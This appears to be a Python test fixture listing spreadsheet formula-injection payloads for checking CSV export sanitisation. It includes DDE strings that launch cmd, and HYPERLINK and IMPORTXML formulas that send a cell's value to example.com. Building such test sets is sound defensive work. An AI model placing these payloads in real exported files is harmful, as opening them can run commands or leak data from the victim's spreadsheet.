"""Texts that a spreadsheet would take for formulas, as attackers and accidents write them."""

_SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.com/?x="&A1,"点击")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://example.com/?v=",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
)
_BEFORE = ("\t", "\r", "\n", " ", "\u3000", "\ufeff", "'", "''")

PAYLOADS = (
    *(sign + body for sign in _SIGNS for body in _BODIES),
    *(before + "=1+1" for before in _BEFORE),
    "-", "=", "@SUM(1)", "+8613812345678", '"=1+1"', "a,b;c\td", "第一行\r\n=第二行",
)  # fmt: skip
